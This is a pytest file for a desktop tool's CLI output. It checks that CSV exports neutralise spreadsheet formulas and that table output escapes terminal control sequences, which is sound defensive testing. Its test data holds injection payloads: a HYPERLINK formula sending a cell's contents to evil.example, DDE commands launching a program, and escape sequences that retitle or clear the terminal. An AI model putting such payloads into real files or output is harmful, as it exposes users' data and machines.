"""Command output cannot run formulas in a spreadsheet nor drive the terminal."""

from __future__ import annotations

import csv
import io

import pytest

from gusp_desktop.cli.output import emit, render

COLUMNS = [("number", "N°"), ("title", "Action")]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "=cmd|' /C calc'!A0",
    "\x01=cmd|' /C calc'!A0",
    "+33 6 12",
    "@SUM(A1:A9)",
    " -2+3",
]


def test_csv_output_neutralises_every_formula_cell() -> None:
    records = [{"number": f"HM-{i}", "title": text} for i, text in enumerate(HOSTILE)]
    rows = list(csv.reader(io.StringIO(render(records, COLUMNS, "csv")), delimiter=";"))
    titles = [row[1] for row in rows[1:]]
    assert all(title.startswith("'") for title in titles), titles
    assert "\x01" not in "".join(titles)


def test_csv_output_neutralises_headers_and_keeps_plain_text() -> None:
    records = [{"number": "HM-1", "title": "Réparer l'éclairage"}]
    out = render(records, [("number", "=N°"), ("title", "Action")], "csv")
    assert out.splitlines() == ["'=N°;Action", "HM-1;Réparer l'éclairage"]


@pytest.mark.parametrize(
    "stored",
    [
        "\x1b]0;Fenêtre piratée\x07texte",  # OSC: retitles the terminal window
        "\x1b[2J\x1b[Heffacé",  # CSI: clears the screen
        "\x9b31mrouge",  # 8-bit CSI
        "\x1b]8;;http://evil.example\x1b\\lien\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    ],
)
def test_emit_shows_control_characters_instead_of_obeying_them(
    stored: str, capfd: pytest.CaptureFixture[str]
) -> None:
    emit(render([{"number": "HM-1", "title": stored}], COLUMNS, "table"))
    out = capfd.readouterr().out
    assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out
    assert "\\x1b" in out or "\\x9b" in out


def test_emit_keeps_line_breaks_and_accents(capfd: pytest.CaptureFixture[str]) -> None:
    emit("Ligne 1 : « élan »\n\tLigne 2")
    assert capfd.readouterr().out == "Ligne 1 : « élan »\n\tLigne 2\n"
